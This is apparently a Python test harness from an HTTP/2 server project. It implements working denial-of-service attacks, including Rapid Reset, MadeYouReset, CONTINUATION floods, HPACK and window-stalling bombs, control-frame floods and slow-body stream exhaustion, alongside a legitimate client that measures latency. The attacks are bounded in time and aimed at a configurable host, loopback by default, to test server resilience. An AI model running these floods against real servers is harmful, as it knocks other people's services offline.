#!/usr/bin/python3
"""The published HTTP/2 attacks, each run for a bounded time against one server, reported as JSON.

    attacks.py --port P [--host 127.0.0.1] [--tls] --case rapid_reset [--duration 3]
    attacks.py --port P --case legit [--requests 200] [--duration 0]
    attacks.py --list

An attack opens one connection, does the SETTINGS exchange, then attacks until its time is up,
the server ends the connection, or the server stops reading; then it reads what the server still
has to say for --grace seconds. It prints one JSON object: how the connection ended (`ended`:
"goaway", "closed" (EOF without GOAWAY), "reset" (TCP RST) or "open"), the GOAWAY's code and when
it came, what it sent (frames, requests, bytes) and what came back (RST_STREAM codes, response
statuses). It judges nothing: the pass conditions need the server's memory and its backend's
count, which the caller has (tests/h2/attacks.rs).

`legit` is a well-behaved client (python3-h2's state machine): small GET requests one after the
other on one connection (a new one after a graceful GOAWAY, as browsers do), printing their
latencies (p50, p99, max) and failures as JSON, to run beside an attack.

Every loop is bounded in count and time; the only address used is the one given (loopback in the
tests). Shares its frame and HPACK helpers with h2spec.py beside it.
"""

import argparse
import json
import os
import socket
import ssl
import struct
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ in the source tree the tests run from
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import h2spec as h  # noqa: E402  (the frame and HPACK helpers of the conformance cases)

SEND_STALL = 1.0  # a send blocked this long means the server stopped reading
MAX_BATCHES = 1_000_000  # bound on any attack loop, besides its time


def now():
    return time.monotonic()


# ---------------------------------------------------------------------------------------------
# The attacking connection: sends without waiting, reads whatever has come when asked
# ---------------------------------------------------------------------------------------------

class Attack:
    """One attacking connection and what was seen on it."""

    def __init__(self, opts, name):
        self.opts = opts
        self.name = name
        self.conn = h.Conn(opts)  # connects (TLS with ALPN h2 when asked)
        self.conn.handshake()
        self.sock = self.conn.sock
        self.start = now()
        self.frames_sent = self.requests_sent = self.bytes_sent = 0
        self.frames_received = 0
        self.rst_codes = {}
        self.statuses = {}
        self.goaway = None  # (code, last stream id, seconds)
        self.ended = None  # "closed" or "reset", with when
        self.ended_at = None
        self.stalled = False  # the server stopped reading for SEND_STALL seconds
        self.data_received = 0
        self.ended_streams = set()  # streams the server reset or finished
        self.rbuf = b""
        self.block = b""

    # --- writing -----------------------------------------------------------------------------

    def send(self, data, frames, requests=0):
        """Writes a batch; False once the connection is over or the server stopped reading."""
        if self.ended:
            return False
        self.sock.settimeout(SEND_STALL)
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.stalled = True
            return False
        except (BrokenPipeError, ConnectionResetError):
            self._lost("reset")
            return False
        except (OSError, ssl.SSLError):
            self._lost("closed")
            return False
        self.frames_sent += frames
        self.requests_sent += requests
        self.bytes_sent += len(data)
        return True

    def encode(self, fields):
        return self.conn.encode(fields)

    def request_block(self, method="GET", extra=()):
        return self.encode(self.conn.request_fields(method) + list(extra))

    def max_frame(self):
        return min(self.conn.max_frame_size(), 16384)

    def server_setting(self, ident, default):
        return self.conn.server_settings.get(ident, default)

    # --- reading -----------------------------------------------------------------------------

    def poll(self, wait=0.0):
        """Reads what arrives within `wait` seconds (0: what is already here, a few reads)."""
        deadline = now() + wait
        for n in range(10_000):
            if self.ended or (n > 0 and now() >= deadline) or (wait == 0.0 and n >= 16):
                return
            left = deadline - now()
            self.sock.settimeout(max(left, 0.0))
            try:
                chunk = self.sock.recv(262144)
            except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
                return
            except ConnectionResetError:
                self._end("reset")
                return
            except (OSError, ssl.SSLError):
                self._end("closed")
                return
            if not chunk:
                self._end("closed")
                return
            self.rbuf += chunk
            self._parse()

    def finish(self, grace):
        """After the attack: reads until the connection ends or `grace` seconds pass."""
        deadline = now() + grace
        while not self.ended and now() < deadline:
            self.poll(min(0.2, max(deadline - now(), 0.0)))

    def _lost(self, how):
        """A write failed: what the server sent before it went (its GOAWAY) may still be here."""
        self.poll(0.0)
        self._end(how)

    def _end(self, how):
        if not self.ended:
            self.ended = how
            self.ended_at = now() - self.start

    def _parse(self):
        for _ in range(100_000):
            if len(self.rbuf) < 9:
                return
            length = int.from_bytes(self.rbuf[:3], "big")
            if len(self.rbuf) < 9 + length:
                return
            head, self.rbuf = self.rbuf[:9 + length], self.rbuf[9 + length:]
            f = h.Frame(head[3], head[4], struct.unpack(">I", head[5:9])[0] & h.MAX_WINDOW,
                        head[9:])
            self.frames_received += 1
            self._note(f)

    def _note(self, f):
        if f.type == h.GOAWAY and self.goaway is None:
            last = struct.unpack(">I", f.payload[:4])[0] & h.MAX_WINDOW
            self.goaway = (f.code(), last, now() - self.start)
        elif f.type == h.RST_STREAM:
            name = h.error_name(f.code())
            self.rst_codes[name] = self.rst_codes.get(name, 0) + 1
            self.ended_streams.add(f.stream)
        elif f.type == h.DATA:
            self.data_received += len(f.payload)
        if f.type in (h.DATA, h.HEADERS) and f.has(h.END_STREAM):
            self.ended_streams.add(f.stream)
        if f.type in (h.HEADERS, h.CONTINUATION):
            self.block += h.header_fragment(f)
            if f.has(h.END_HEADERS):
                try:
                    status = dict(self.conn.decoder.decode(self.block)).get(":status", "?")
                except Exception:  # noqa: BLE001  (a report, not a judgement: note and go on)
                    status = "undecodable"
                self.block = b""
                self.statuses[status] = self.statuses.get(status, 0) + 1

    # --- the report ----------------------------------------------------------------------------

    def report(self):
        if self.goaway:
            ended = "goaway"
        else:
            ended = self.ended or "open"
        return {
            "attack": self.name,
            "ended": ended,
            "goaway_code": h.error_name(self.goaway[0]) if self.goaway else None,
            "goaway_last_stream": self.goaway[1] if self.goaway else None,
            "goaway_after_s": round(self.goaway[2], 3) if self.goaway else None,
            "closed": self.ended is not None,
            "closed_after_s": round(self.ended_at, 3) if self.ended_at is not None else None,
            "stalled": self.stalled,
            "frames_sent": self.frames_sent,
            "requests_sent": self.requests_sent,
            "bytes_sent": self.bytes_sent,
            "frames_received": self.frames_received,
            "rst_stream_received": self.rst_codes,
            "responses": self.statuses,
            "streams_ended": len(self.ended_streams),
            "data_bytes_received": self.data_received,
            "server_settings": {str(k): v for k, v in sorted(self.conn.server_settings.items())},
            "elapsed_s": round(now() - self.start, 3),
        }


def flood(a, batches, duration, read_during=True):
    """Sends the batches `batches(i)` gives ((bytes, frames, requests)) until time is up."""
    deadline = a.start + duration
    for i in range(MAX_BATCHES):
        if now() >= deadline or a.ended or a.goaway:
            break
        data, frames, requests = batches(i)
        if not a.send(data, frames, requests):
            break
        if read_during:
            a.poll(0.0)


# ---------------------------------------------------------------------------------------------
# The attacks
# ---------------------------------------------------------------------------------------------

def rapid_reset(a, o):
    """CVE-2023-44487: a request and its RST_STREAM(CANCEL) at once, over and over."""
    first = a.request_block()
    block = a.request_block()  # the same fields again: all indexed now, a few bytes
    per = 100

    def batch(i):
        out = []
        for k in range(per):
            sid = 1 + 2 * (i * per + k)
            out.append(h.frame(h.HEADERS, h.END_STREAM | h.END_HEADERS, sid,
                               first if sid == 1 else block))
            out.append(h.frame(h.RST_STREAM, 0, sid, struct.pack(">I", h.CANCEL)))
        return b"".join(out), 2 * per, per
    flood(a, batch, o.duration)


def made_you_reset(a, o):
    """CVE-2025-8671: the client makes the server reset its own streams with frames that are
    stream errors after a complete request: WINDOW_UPDATE of 0, a PRIORITY of 4 bytes, DATA after
    END_STREAM. Each stream's request is already on its way to the backend when it is reset."""
    first = a.request_block()
    block = a.request_block()
    per = 60
    triggers = [
        lambda sid: h.frame(h.WINDOW_UPDATE, 0, sid, struct.pack(">I", 0)),
        lambda sid: h.frame(h.PRIORITY, 0, sid, b"\x00\x00\x00\x00"),
        lambda sid: h.frame(h.DATA, h.END_STREAM, sid, b"x"),
    ]

    def batch(i):
        out = []
        for k in range(per):
            sid = 1 + 2 * (i * per + k)
            out.append(h.frame(h.HEADERS, h.END_STREAM | h.END_HEADERS, sid,
                               first if sid == 1 else block))
            out.append(triggers[k % len(triggers)](sid))
        return b"".join(out), 2 * per, per
    flood(a, batch, o.duration)


def continuation_flood(a, o):
    """CONTINUATION frames without END_HEADERS, without end, after one HEADERS."""
    field = h.literal("x-flood", "a" * 60, "plain")
    size = a.max_frame()
    payload = field * (size // len(field))
    a.send(h.frame(h.HEADERS, 0, 1, a.request_block("POST")), 1, 1)

    def batch(i):
        return h.frame(h.CONTINUATION, 0, 1, payload) * 4, 4, 0
    flood(a, batch, o.duration)


def hpack_bomb(a, o):
    """One big dynamic-table entry, then requests that name it thousands of times (one byte per
    reference, 4 KB each once decoded), their header blocks spread over CONTINUATION frames."""
    table = a.server_setting(h.HEADER_TABLE_SIZE, 4096)
    value = "a" * max(table - 32 - len("x-bomb") - 64, 16)
    # The request's fields are written without indexing: the table holds the bomb alone.
    plain = b"".join(h.literal(name, val, "plain") for name, val in a.conn.request_fields())
    a.send(h.frame(h.HEADERS, h.END_STREAM | h.END_HEADERS, 1,
                   plain + h.literal("x-bomb", value, "indexed")), 1, 1)
    refs = b"\xbe" * 16000  # index 62: the newest dynamic entry, x-bomb
    size = a.max_frame()

    def batch(i):
        sid = 3 + 2 * i
        block = plain + refs
        chunks = [block[j:j + size] for j in range(0, len(block), size)]
        out = [h.frame(h.HEADERS, h.END_STREAM, sid, chunks[0])]
        for n, chunk in enumerate(chunks[1:], 1):
            out.append(h.frame(h.CONTINUATION, h.END_HEADERS if n == len(chunks) - 1 else 0,
                               sid, chunk))
        return b"".join(out), len(out), 1
    flood(a, batch, o.duration)


def http2_bomb(a, o):
    """The 2026 HTTP/2 Bomb: requests of many tiny indexed fields (one byte each, 30 decoded),
    the window held at zero so every response stays in the server, then 1-byte WINDOW_UPDATE
    drips on the connection and every stream."""
    a.send(h.frame(h.SETTINGS, 0, 0, h.settings_payload((h.INITIAL_WINDOW_SIZE, 0))), 1)
    streams = min(a.server_setting(h.MAX_CONCURRENT_STREAMS, 100), 100)
    fields = b"\x90" * 1000  # static 16: accept-encoding: gzip, deflate
    first = a.request_block()
    block = a.request_block()
    opened = []
    for i in range(streams):
        sid = 1 + 2 * i
        if not a.send(h.frame(h.HEADERS, h.END_STREAM | h.END_HEADERS, sid,
                              (first if i == 0 else block) + fields), 1, 1):
            break
        opened.append(sid)
        a.poll(0.0)

    def drip(i):
        out = [h.frame(h.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))]
        out += [h.frame(h.WINDOW_UPDATE, 0, sid, struct.pack(">I", 1)) for sid in opened]
        time.sleep(0.01)
        return b"".join(out), len(out), 0
    flood(a, drip, o.duration)


def settings_flood(a, o):
    """SETTINGS frames, each owed an ACK, and the attacker never reads the ACKs."""
    one = h.frame(h.SETTINGS, 0, 0, h.settings_payload((h.INITIAL_WINDOW_SIZE, h.DEFAULT_WINDOW)))
    flood(a, lambda i: (one * 1000, 1000, 0), o.duration, read_during=False)


def ping_flood(a, o):
    """PING frames, each owed a PING ACK, and the attacker never reads the ACKs."""
    def batch(i):
        return b"".join(h.frame(h.PING, 0, 0, struct.pack(">Q", i * 1000 + k))
                        for k in range(1000)), 1000, 0
    flood(a, batch, o.duration, read_during=False)


def empty_data_flood(a, o):
    """CVE-2019-9518: DATA frames of no bytes and no END_STREAM on one open request."""
    a.send(h.frame(h.HEADERS, h.END_HEADERS, 1, a.request_block("POST")), 1, 1)
    empty = h.frame(h.DATA, 0, 1, b"")
    flood(a, lambda i: (empty * 1000, 1000, 0), o.duration)


def window_update_flood(a, o):
    """WINDOW_UPDATE frames of 1 byte on the connection, as fast as they go."""
    one = h.frame(h.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    flood(a, lambda i: (one * 1000, 1000, 0), o.duration)


def stream_exhaustion(a, o):
    """As many requests as the server allows and 50 more, each a POST whose body never comes;
    then holding the connection: streams must be refused past the limit, or reset when the body
    timeout passes, and the idle connection closed."""
    limit = min(a.server_setting(h.MAX_CONCURRENT_STREAMS, 1000), 1000)
    first = a.request_block("POST", [("content-length", "1000")])
    block = a.request_block("POST", [("content-length", "1000")])
    for i in range(limit + 50):
        if not a.send(h.frame(h.HEADERS, h.END_HEADERS, 1 + 2 * i, first if i == 0 else block),
                      1, 1):
            break
        if i % 20 == 0:
            a.poll(0.0)
    hold(a, o.hold)


def slow_body(a, o):
    """Requests whose bodies come one byte per stream every --interval seconds (slower than a
    body timeout of 2 s): they must be reset at the timeout, and the idle connection closed."""
    streams = min(a.server_setting(h.MAX_CONCURRENT_STREAMS, 100), 50)
    first = a.request_block("POST", [("content-length", "1000")])
    block = a.request_block("POST", [("content-length", "1000")])
    for i in range(streams):
        sid = 1 + 2 * i
        a.send(h.frame(h.HEADERS, h.END_HEADERS, sid, first if i == 0 else block)
               + h.frame(h.DATA, 0, sid, b"x"), 2, 1)
    deadline = a.start + o.hold
    for _ in range(10_000):
        if a.ended or now() >= deadline:
            break
        a.poll(min(o.interval, max(deadline - now(), 0.0)))
        alive = [sid for sid in (1 + 2 * i for i in range(streams)) if sid not in a.ended_streams]
        if a.ended or now() >= deadline or not alive:
            break
        a.send(b"".join(h.frame(h.DATA, 0, sid, b"x") for sid in alive), len(alive))
    hold(a, o.hold)  # every stream ended: the connection idles until it is closed


def hold(a, seconds):
    """Keeps the connection without sending, reading, until it ends or `seconds` from the start."""
    deadline = a.start + seconds
    while not a.ended and now() < deadline:
        a.poll(min(0.2, max(deadline - now(), 0.0)))


ATTACKS = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "http2_bomb": http2_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "empty_data_flood": empty_data_flood,
    "window_update_flood": window_update_flood,
    "stream_exhaustion": stream_exhaustion,
    "slow_body": slow_body,
}


def run_attack(opts):
    try:
        a = Attack(opts, opts.case)
    except (h.CaseFailed, OSError, ssl.SSLError) as e:
        return {"attack": opts.case, "error": "could not open the connection: %s" % e}
    try:
        ATTACKS[opts.case](a, opts)
        a.finish(opts.grace)
        return a.report()
    finally:
        a.conn.close()


# ---------------------------------------------------------------------------------------------
# The legitimate client
# ---------------------------------------------------------------------------------------------

class LegitConn:
    """One connection of the legitimate client, driven by python3-h2's state machine."""

    def __init__(self, opts):
        import h2.config
        import h2.connection

        self.opts = opts
        sock = socket.create_connection((opts.host, opts.port), timeout=opts.request_timeout)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if opts.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname=opts.host)
        self.sock = sock
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.sock.sendall(self.h2.data_to_send())
        self.rbuf = b""
        authority = opts.authority or "%s:%d" % (opts.host, opts.port)
        self.headers = [(":method", "GET"), (":scheme", "https" if opts.tls else "http"),
                        (":path", opts.path), (":authority", authority),
                        ("user-agent", "quill-h2-legit")]

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def get(self):
        """One GET to its end: "ok", "goaway" (NO_ERROR: try again elsewhere), or what failed."""
        import h2.events
        import h2.exceptions

        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, self.headers, end_stream=True)
        deadline = now() + self.opts.request_timeout
        status = None
        try:
            self.sock.sendall(self.h2.data_to_send())
            for _ in range(10_000):
                left = deadline - now()
                if left <= 0:
                    return "timeout"
                self.sock.settimeout(left)
                data = self.sock.recv(65536)
                if not data:
                    return "connection closed"
                for ev in self.events(data):
                    if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                        status = dict(ev.headers).get(":status")
                    elif isinstance(ev, h2.events.DataReceived):
                        self.h2.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                        self.sock.sendall(self.h2.data_to_send())
                        return "ok" if status == "200" else "status %s" % status
                    elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                        return "reset %s" % ev.error_code
                    elif isinstance(ev, h2.events.ConnectionTerminated):
                        return "goaway" if ev.error_code == 0 else "GOAWAY %s" % ev.error_code
                self.sock.sendall(self.h2.data_to_send())
        except socket.timeout:
            return "timeout"
        except (OSError, ssl.SSLError, h2.exceptions.ProtocolError) as e:
            return "error: %s" % e
        return "too many reads"

    def events(self, data):
        """Feeds whole frames one at a time, stopping at a GOAWAY (python3-h2 refuses the frames
        a server may still send after it, for streams it will finish)."""
        import h2.events

        self.rbuf += data
        out = []
        while len(self.rbuf) >= 9:
            n = 9 + int.from_bytes(self.rbuf[:3], "big")
            if len(self.rbuf) < n:
                break
            one, self.rbuf = self.rbuf[:n], self.rbuf[n:]
            for ev in self.h2.receive_data(one):
                out.append(ev)
                if isinstance(ev, h2.events.ConnectionTerminated):
                    return out
        return out


def legit(opts):
    """Small GETs one after the other. A graceful GOAWAY (NO_ERROR: the server's requests per
    connection) sends the client to a new connection, as browsers do; any other failure counts at
    --request-timeout, so failures raise the percentiles, and starts a new connection too."""
    latencies, errors = [], []
    start = now()
    conn, connections = None, 0
    measured = False  # the first request, SETTINGS exchange included, is not measured
    for _ in range(opts.requests + 1):
        if opts.duration and now() - start >= opts.duration:
            break
        t0 = now()
        outcome = "no connection"
        for _attempt in range(2):  # one retry, on a new connection, after a graceful GOAWAY
            if conn is None and connections < 1000:
                try:
                    conn, connections = LegitConn(opts), connections + 1
                except (OSError, ssl.SSLError) as e:
                    outcome = "connect: %s" % e
                    break
            if conn is None:
                break
            outcome = conn.get()
            if outcome == "ok" or outcome.startswith("status"):
                break
            conn.close()
            conn = None
            if outcome != "goaway":
                break
        if not measured:
            measured = True
            if outcome == "ok":
                continue
        if outcome == "ok":
            latencies.append(now() - t0)
        else:
            errors.append(outcome)
            latencies.append(opts.request_timeout)
    if conn is not None:
        conn.close()
    ordered = sorted(latencies)

    def pct(p):
        if not ordered:
            return None
        rank = max(1, -(-len(ordered) * p // 100))  # nearest rank
        return round(ordered[int(rank) - 1] * 1000, 3)
    return {
        "mode": "legit",
        "requests": len(latencies),
        "failed": len(errors),
        "errors": errors[:5],
        "connections": connections,
        "p50_ms": pct(50),
        "p99_ms": pct(99),
        "max_ms": round(ordered[-1] * 1000, 3) if ordered else None,
        "elapsed_s": round(now() - start, 3),
    }


# ---------------------------------------------------------------------------------------------
# Command line
# ---------------------------------------------------------------------------------------------

def main(argv):
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int)
    p.add_argument("--tls", action="store_true", help="TLS with ALPN h2, certificate unchecked")
    p.add_argument("--authority", help=":authority of requests (default HOST:PORT)")
    p.add_argument("--case", help="an attack, or legit")
    p.add_argument("--list", action="store_true", help="print the attacks")
    p.add_argument("--duration", type=float,
                   help="seconds an attack lasts (3); legit stops after this long (default: no)")
    p.add_argument("--hold", type=float, default=8.0,
                   help="seconds stream_exhaustion and slow_body hold the connection (8)")
    p.add_argument("--interval", type=float, default=3.0,
                   help="seconds between slow_body's bytes (3)")
    p.add_argument("--grace", type=float, default=2.0,
                   help="seconds to read what the server says after an attack (2)")
    p.add_argument("--requests", type=int, default=200, help="legit: requests at most (200)")
    p.add_argument("--path", default="/",
                   help="legit: the path asked for (/; the tests tell its requests apart by it)")
    p.add_argument("--request-timeout", type=float, default=5.0,
                   help="legit: seconds one request may take (5)")
    opts = p.parse_args(argv)
    opts.timeout, opts.strict, opts.verbose = 2.0, False, False  # what h2spec.Conn reads
    if opts.list:
        print("\n".join(list(ATTACKS) + ["legit"]))
        return 0
    if opts.port is None or not opts.case:
        p.error("--port and --case are needed")
    if opts.case == "legit":
        opts.duration = opts.duration or 0
        result = legit(opts)
    elif opts.case in ATTACKS:
        opts.duration = 3.0 if opts.duration is None else opts.duration
        result = run_attack(opts)
    else:
        p.error("no attack %r (see --list)" % opts.case)
    print(json.dumps(result, sort_keys=True))
    return 0 if "error" not in result else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
